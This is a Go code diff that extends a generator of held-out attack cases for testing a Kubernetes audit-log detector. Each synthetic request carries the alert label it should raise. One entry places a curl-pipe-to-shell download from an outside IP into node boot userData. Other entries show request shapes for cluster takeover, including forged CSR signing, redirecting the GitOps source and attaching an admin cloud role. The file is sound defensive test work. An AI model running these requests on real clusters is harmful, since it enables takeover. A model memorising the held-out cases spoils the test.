@@ -205,5 +205,25 @@ func genHeldoutAttacks() []byte {
 		g.emit(hreq{user: "", verb: "get", uri: fmt.Sprintf("/api/v1/namespaces/ns%d/secrets", i), ips: []string{"198.51.100.200"}, ua: "Go-http-client/1.1", code: 401, expect: exp})
 	}
 	g.emit(hreq{user: mallory, groups: mgr, verb: "get", res: "secrets", ns: "payments", name: "stripe", ips: vpn, ua: kUA, code: 403, msg: "forbidden", expect: []string{"secret_access_denied"}})
+	// Trust the cluster places in its own machinery: signers, schedulers,
+	// heartbeats, boot scripts, backups, GitOps sources, cloud identities.
+	g.emit(hreq{user: mallory, groups: mgr, verb: "update", group: "certificates.k8s.io", res: "certificatesigningrequests", sub: "status", name: "m", ips: vpn, ua: kUA, level: "Request",
+		body: map[string]any{"kind": "CertificateSigningRequest", "apiVersion": "certificates.k8s.io/v1", "metadata": map[string]any{"name": "m"}, "status": map[string]any{"certificate": "LS0tLS1CRUdJTiBDRVJUSUZJQ0FURS0tLS0t"}}, expect: []string{"csr_signed_by_non_signer"}})
+	g.emit(hreq{user: def, groups: defG, verb: "create", res: "pods", sub: "binding", ns: "shop", name: "cache-0", ips: podIP, ua: "python-requests/2.31.0", level: "Request",
+		body: map[string]any{"kind": "Binding", "apiVersion": "v1", "metadata": map[string]any{"name": "cache-0"}, "target": map[string]any{"kind": "Node", "name": "cp-1"}}, expect: []string{"pod_binding_by_non_scheduler"}})
+	g.emit(hreq{user: mallory, groups: mgr, verb: "create", res: "pods", ns: "shop", ips: vpn, ua: kUA, level: "Request",
+		body: podBody("shop", "cp-debug", "", podSpec([]any{ctr("c", "alpine", nil)}, map[string]any{"nodeSelector": map[string]any{"node-role.kubernetes.io/control-plane": ""}, "tolerations": []any{map[string]any{"operator": "Exists"}}}), nil, nil), expect: []string{"workload_on_control_plane"}})
+	g.emit(hreq{user: mallory, groups: mgr, verb: "update", group: "coordination.k8s.io", res: "leases", ns: "kube-node-lease", name: "ip-10-20-1-14.ec2.internal", ips: vpn, ua: kUA, expect: []string{"node_lease_forged"}})
+	g.emit(hreq{user: mallory, groups: mgr, verb: "patch", group: "karpenter.k8s.aws", res: "ec2nodeclasses", name: "default", ips: vpn, ua: kUA, level: "Request",
+		body: map[string]any{"spec": map[string]any{"userData": "#!/bin/bash\ncurl -s http://185.220.101.47/n | sh"}}, expect: []string{"node_bootstrap_config_change"}})
+	g.emit(hreq{user: mallory, groups: mgr, verb: "create", group: "velero.io", res: "backupstoragelocations", ns: "velero", name: "offsite", ips: vpn, ua: "velero/v1.14.0 (linux/amd64) 2fc6300", expect: []string{"backup_tampering"}})
+	g.emit(hreq{user: mallory, groups: mgr, verb: "delete", group: "velero.io", res: "schedules", ns: "velero", name: "daily", ips: vpn, ua: "velero/v1.14.0 (linux/amd64) 2fc6300", expect: []string{"backup_tampering"}})
+	g.emit(hreq{user: mallory, groups: mgr, verb: "patch", group: "source.toolkit.fluxcd.io", res: "gitrepositories", ns: "flux-system", name: "flux-system", ips: vpn, ua: kUA, level: "Request",
+		body: map[string]any{"spec": map[string]any{"url": "https://github.com/m4llory/fleet"}}, expect: []string{"gitops_source_changed"}})
+	g.emit(hreq{user: def, groups: defG, verb: "create", group: "external-secrets.io", version: "v1beta1", res: "clustersecretstores", name: "all", ips: podIP, ua: "curl/8.5.0", expect: []string{"secret_store_change"}})
+	g.emit(hreq{user: mallory, groups: mgr, verb: "patch", res: "serviceaccounts", ns: "shop", name: "api", ips: vpn, ua: kUA, level: "Request",
+		body: map[string]any{"metadata": map[string]any{"annotations": map[string]any{"eks.amazonaws.com/role-arn": "arn:aws:iam::111122223333:role/admin"}}}, expect: []string{"serviceaccount_cloud_identity_change"}})
+	g.emit(hreq{user: def, groups: defG, verb: "patch", res: "services", ns: "payments", name: "postgres", ips: podIP, ua: "curl/8.5.0", level: "Request",
+		body: map[string]any{"spec": map[string]any{"type": "LoadBalancer"}}, expect: []string{"service_exposed_by_patch"}})
 	return g.bytes()
 }
